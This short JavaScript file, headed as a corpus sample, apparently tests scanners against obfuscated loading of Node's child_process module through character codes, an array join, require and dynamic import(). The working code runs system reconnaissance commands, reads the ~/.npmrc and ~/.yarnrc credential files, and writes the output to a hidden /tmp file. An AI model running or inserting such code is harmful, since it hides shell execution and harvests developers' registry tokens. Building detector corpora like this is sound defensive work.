// corpus: require and dynamic import() of a module name rebuilt from char codes and an array join
'use strict';
const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
const alt = ['node:child', 'process'].join('_');

function viaRequire() {
  const req = require;
  return req(name).execSync('uname -a; id', { encoding: 'utf8' });
}

import(alt)
  .then((m) => m.execFileSync('/bin/sh', ['-c', 'cat ~/.npmrc ~/.yarnrc 2>/dev/null'], { encoding: 'utf8' }))
  .catch(viaRequire)
  .then((out) => require('fs').writeFileSync('/tmp/.im', String(out)));
